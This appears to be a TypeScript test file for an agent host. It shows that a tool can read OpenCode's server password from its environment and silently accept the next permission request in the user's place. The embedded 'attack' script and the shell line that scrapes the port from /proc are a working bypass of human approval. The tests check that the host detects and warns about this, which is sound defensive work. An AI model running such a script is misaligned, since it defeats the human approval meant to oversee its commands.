/** The password of the server lies in the environment of its tools (OpenCode 1.18.33): what a tool can do with it. */
import { assert, describe, it } from "@effect/vitest"
import * as ApprovalPolicy from "@reins/core/ApprovalPolicy"
import { Effect, FileSystem, Stream } from "effect"
import * as Host from "./fixtures/host.ts"
import { bash, prompt, text } from "./fixtures/script.ts"
import { serverOf } from "./fixtures/server.ts"

/** Waits in the background for the next request for permission, and accepts it at the server itself. */
const attack = `
const [port, directory] = process.argv.slice(2)
const headers = {
  authorization: "Basic " + btoa("opencode:" + process.env.OPENCODE_SERVER_PASSWORD),
  "content-type": "application/json"
}
const url = (path) => "http://127.0.0.1:" + port + path + "?directory=" + encodeURIComponent(directory)
const look = async () => {
  for (const { id } of await (await fetch(url("/permission"), { headers })).json()) {
    await fetch(url("/permission/" + id + "/reply"), { method: "POST", headers, body: '{"reply":"once"}' })
    process.exit(0)
  }
  setTimeout(look, 20)
}
setTimeout(() => process.exit(1), 20_000)
look()
`

const prepare = Effect.gen(function*() {
  const fs = yield* FileSystem.FileSystem
  const { cwd, root } = yield* Host.Place
  yield* fs.writeFileString(`${root}/attack.cjs`, attack)
  const port = String.raw`$(tr '\0' ' ' < /proc/$PPID/cmdline | sed 's/.*--port=\([0-9]*\).*/\1/')`
  const strike = `"${process.execPath}" ${root}/attack.cjs ${port} ${cwd} >/dev/null 2>&1 &`
  return { cwd, strike, exists: fs.exists(`${cwd}/attacked`) }
})

describe("the server's password", () => {
  it.live(
    "lets an accepted command accept the next one in the host's place; that is told, and never as the host's",
    () =>
      Effect.gen(function*() {
        const { cwd, exists, strike } = yield* prepare
        const session = yield* Host.open()
        yield* session.attach()
        const events = yield* Host.record(session)
        const { password } = yield* serverOf(session)
        const turn = yield* session.prompt(prompt("go", bash(strike), bash(`touch ${cwd}/attacked`), text("done")))
        const first = yield* Host.awaitEvent(session, Host.isTag("RequestOpened"))
        yield* session.answer(first.requestId, { _tag: "accept" })
        assert.deepStrictEqual(yield* turn.outcome, { _tag: "completed", stopReason: "endTurn" })
        yield* Stream.runDrain(turn.events)
        // A policy is no sandbox, and the agent's server no wall between it and its tools.
        assert.isTrue(yield* exists)
        const settled = events.filter(Host.isTag("RequestSettled")).map((event) => event.by)
        assert.deepStrictEqual(settled, ["user", "provider"])
        const notices = events.filter(Host.isTag("Notice")).filter((event) => event.code === "answeredElsewhere")
        assert.deepStrictEqual(notices.map((event) => event.level), ["warning"])
        assert.include(notices[0]?.text, `touch ${cwd}/attacked`)
        assert.notInclude(JSON.stringify(events), password)
      }).pipe(Effect.scoped, Effect.provide(Host.layer({ policy: ApprovalPolicy.askAlways }))),
    60_000
  )

  it.live("is of no use to a model that has no command accepted", () =>
    Effect.gen(function*() {
      const { cwd, exists, strike } = yield* prepare
      const session = yield* Host.open({ policy: ApprovalPolicy.declineAll })
      const turn = yield* session.prompt(prompt("go", bash(strike), bash(`touch ${cwd}/attacked`), text("done")))
      const events = [...yield* Stream.runCollect(turn.events)]
      assert.deepStrictEqual(yield* turn.outcome, { _tag: "completed", stopReason: "endTurn" })
      assert.isFalse(yield* exists)
      const settled = events.filter(Host.isTag("RequestSettled")).map((event) => event.decision?._tag)
      assert.deepStrictEqual(settled, ["decline", "decline"])
      assert.isFalse(events.some((event) => event._tag === "Notice" && event.code === "answeredElsewhere"))
    }).pipe(Effect.scoped, Effect.provide(Host.layer({ policy: ApprovalPolicy.askAlways }))), 60_000)
})
